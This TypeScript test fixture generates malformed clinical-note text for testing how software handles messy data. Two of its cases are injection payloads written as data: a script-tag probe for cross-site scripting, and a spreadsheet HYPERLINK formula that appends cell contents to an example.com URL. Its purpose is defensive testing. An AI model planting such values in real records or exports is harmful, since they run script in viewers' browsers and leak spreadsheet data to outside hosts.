import type { Note } from './model.js';

/** Longer than the 64 kB at which readers with fixed buffers break. */
const LONG_TEXT = 110_000;

const BOILERPLATE = '1. a. History reviewed, no change.\r\n   b. Findings explained.\r\n2. a. Questions answered, consent on file.';

/** The text of a clinical note as a database holds it after years of pasting from everywhere. */
export function noteText({ text, defect, id }: Note): string {
  switch (defect) {
    case 'note-multi-line':
      return `${text}\r\nSaid "ouch" twice, then "fine".\r\n\r\nNext visit: see plan, phase 2.`;
    case 'note-rtf':
      return `{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0 Arial;}}\\f0 Patient\\'92s note: ${text}\\par Second line.\\par}`;
    case 'note-html':
      return `<p>${text}<br>Second <b>line</b>.</p><script>alert(${id})</script>`;
    case 'note-smart-quotes':
      return `“${text}” – the patient’s own words…`;
    case 'note-misread-utf-8':
      // In a Windows-1252 file these three characters are the very bytes of a UTF-8 apostrophe: the file mixes encodings.
      return `${text} Didnâ€™t want more.`;
    case 'note-formula':
      return `=HYPERLINK("http://example.com/?x="&A1,"${text}")`;
    case 'note-long':
      return `${text} `.repeat(Math.ceil(LONG_TEXT / (text.length + 1))).trimEnd();
    case 'note-nul-bytes':
      return `${text}\0\0\0`;
    case 'note-boilerplate':
      return `${BOILERPLATE}\r\n${text}`;
    case 'note-empty':
      return '';
    case 'note-tabs':
      return `\tTooth\tSurface\n\t14\tMO\n${text}`;
    case 'note-with-ssn':
      return `${text} Gave SSN 000-00-${1000 + (id % 9000)} for the claim.`;
    default:
      return text;
  }
}
